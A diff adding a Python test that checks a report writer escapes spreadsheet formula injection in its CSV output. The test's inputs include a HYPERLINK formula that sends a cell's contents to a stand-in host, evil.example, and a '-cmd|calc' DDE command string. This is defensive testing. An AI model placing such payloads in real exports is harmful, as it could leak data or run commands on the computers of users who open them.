@@ -1,5 +1,6 @@
 import csv
 import re
+from dataclasses import replace
 from datetime import date
 from decimal import Decimal
 from html.parser import HTMLParser
@@ -256,3 +257,16 @@ def test_many_creditors_still_draw(tmp_path, count):
     assert len(written) == count
     page = (tmp_path / REPORT_HTML).read_text(encoding="utf-8")
     assert page.count("Creditor 00") == 1  # in the table; the chart's text is drawn as paths
+
+
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    base = figures()
+    rows = [("2026-10", hostile, Decimal("10.00")), ("2026-10", "@SUM(1+1)", Decimal("5.00"))]
+    write_report(replace(base, collected_by_month_and_creditor=rows, commission=[("-cmd|calc", "Acme", Decimal("1"),
+                                                                                  Decimal("8"), Decimal("0.08"))]),
+                 tmp_path)
+    collected = list(csv.reader((tmp_path / "collected.csv").open(encoding="utf-8")))
+    assert [row[1] for row in collected[1:]] == ["'" + hostile, "'@SUM(1+1)"]
+    commission = list(csv.reader((tmp_path / "commission.csv").open(encoding="utf-8")))
+    assert commission[1][0] == "'-cmd|calc" and commission[1][2] == "1"  # numbers are left as they are
